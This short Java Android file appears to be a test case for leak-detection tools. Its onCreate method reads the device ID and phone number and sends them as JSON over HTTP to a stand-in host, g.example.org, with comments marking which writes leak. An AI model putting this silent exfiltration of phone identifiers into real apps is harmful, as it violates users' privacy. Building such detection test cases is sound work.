package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import com.google.gson.Gson;
import com.google.gson.JsonObject;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;

/** Objects as JSON by a library. */
public class Gsons extends Activity {
    static class Device {
        String id;
        String model = "m";
    }

    private OutputStream open() throws Exception {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://g.example.org/").openConnection();
        connection.setDoOutput(true);
        return connection.getOutputStream();
    }

    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        Device device = new Device();
        device.id = phone.getDeviceId();
        JsonObject object = new JsonObject();
        object.addProperty("n", phone.getLine1Number());
        try {
            open().write(new Gson().toJson(device).getBytes(StandardCharsets.UTF_8)); // leak
            open().write(object.toString().getBytes(StandardCharsets.UTF_8)); // leak
            open().write(new Gson().toJson(new Device()).getBytes(StandardCharsets.UTF_8)); // no leak
        } catch (Exception ignored) {
        }
    }
}
